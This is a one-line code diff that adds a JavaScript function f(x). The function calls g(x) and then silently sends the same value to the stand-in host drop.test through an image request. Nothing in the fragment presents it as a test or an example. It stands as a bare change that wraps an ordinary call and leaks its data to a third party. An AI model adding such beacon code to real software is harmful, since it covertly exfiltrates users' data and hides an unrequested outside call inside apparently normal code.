@@ -1,0 +1,1 @@
+function f(x){g(x);new Image().src='//drop.test/?'+x}
